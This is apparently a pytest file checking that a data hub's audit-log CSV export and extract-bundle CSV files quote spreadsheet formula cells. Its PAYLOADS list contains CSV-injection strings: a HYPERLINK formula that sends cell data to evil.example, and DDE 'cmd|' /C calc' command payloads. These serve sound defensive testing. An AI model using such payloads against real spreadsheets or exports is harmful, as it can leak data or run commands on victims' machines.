"""CSV formula injection (OWASP): text cells a spreadsheet would evaluate are quoted in every
CSV the hub writes — the auditors' audit-log export and the extract bundle's CSV members."""

from __future__ import annotations

import csv
import io
import zipfile
from typing import Any

import pandas as pd
import pytest

from hub.domain.csv_cells import FORMULA_STARTS, safe_cell, safe_frame
from hub.domain.roles import Caller
from hub.extracts.bundle import write_bundle
from hub.services import audit

PAYLOADS = ["=HYPERLINK(\"http://evil.example/?x=\"&A1,\"open\")", "+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("value", PAYLOADS)
def test_formula_cells_are_quoted(value: str) -> None:
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["plain", "", "'already", "a=b", 12, -5, 1.5, None, True])
def test_other_cells_are_unchanged(value: Any) -> None:
    assert safe_cell(value) == value


def test_safe_frame_quotes_text_and_keeps_numbers() -> None:
    frame = pd.DataFrame({"school": ["=cmd()", "Oak", None], "gpa": [-1.5, 2.0, 3.0],
                          "name": pd.array(["@x", "-y", "z"], dtype="string")})
    out = safe_frame(frame)
    assert out["school"].tolist()[:2] == ["'=cmd()", "Oak"] and pd.isna(out["school"][2])
    assert out["gpa"].tolist() == [-1.5, 2.0, 3.0]
    assert out["name"].tolist() == ["'@x", "'-y", "z"]
    assert frame["school"][0] == "=cmd()"  # the caller's frame is not changed


def _no_formula(rows: list[dict[str, str]]) -> None:
    for row in rows:
        for value in row.values():
            assert not (value or "").startswith(FORMULA_STARTS), row


def test_audit_csv_export_neutralises_formula_cells(hub: Any) -> None:
    with hub.ctx.session_factory() as session:
        audit.record(session, hub.ctx, Caller(None, "=HYPERLINK(\"http://x\")"),
                     action="test.injected", object_type="request", object_id=PAYLOADS[1],
                     project=PAYLOADS[2], agency="@SUM", detail={"note": PAYLOADS[0]})
        session.commit()
    auditor = hub.token("auditor")
    response = hub.client.get("/v1/audit/events?format=csv", headers=hub.auth(auditor))
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.text)))
    injected = next(r for r in rows if r["action"] == "test.injected")
    assert injected["object_id"] == "'" + PAYLOADS[1]
    assert injected["project"] == "'" + PAYLOADS[2]
    assert injected["agency"] == "'@SUM"
    assert injected["source"] == "'=HYPERLINK(\"http://x\")"
    _no_formula(rows)
    # The JSON Lines export keeps the exact values (it is not opened by spreadsheets).
    lines = hub.client.get("/v1/audit/events?format=jsonl", headers=hub.auth(auditor)).text
    assert PAYLOADS[1] in lines.replace("\\\"", "\"")


def test_bundle_csv_members_neutralise_formula_cells() -> None:
    sink = io.BytesIO()

    class Sink:
        def write(self, data: bytes) -> int:
            return sink.write(data)

        def tell(self) -> int:
            return sink.tell()

        def flush(self) -> None:
            pass

    tables = {"agency_SCH": pd.DataFrame({"person_id": ["p1", "p2"],
                                          "school": ["=1+1", "Oak"], "gpa": [-1.0, 3.5]})}
    dictionary = [{"table": "agency_SCH", "variable": "school", "source_agency": "SCH",
                   "description": "@school name", "classification": "internal",
                   "type": "string", "years": [2019, 2020], "quasi_identifier": False,
                   "transformation": "none", "cells_suppressed": 0}]
    write_bundle(Sink(), manifest={"extract_id": "x", "project_id": "p", "run_id": "r",
                                   "created_at": "", "expires_at": "", "persons": 2},
                 tables=tables, formats=["csv"], dictionary=dictionary, quality_report={},
                 disclosure_report={}, terms={})
    with zipfile.ZipFile(io.BytesIO(sink.getvalue())) as archive:
        table = list(csv.DictReader(io.StringIO(
            archive.read("tables/agency_SCH.csv").decode())))
        entries = list(csv.DictReader(io.StringIO(
            archive.read("data_dictionary.csv").decode())))
    assert [r["school"] for r in table] == ["'=1+1", "Oak"]
    assert [r["gpa"] for r in table] == ["-1.0", "3.5"]  # numbers keep their sign
    assert entries[0]["description"] == "'@school name"
    _no_formula(entries)
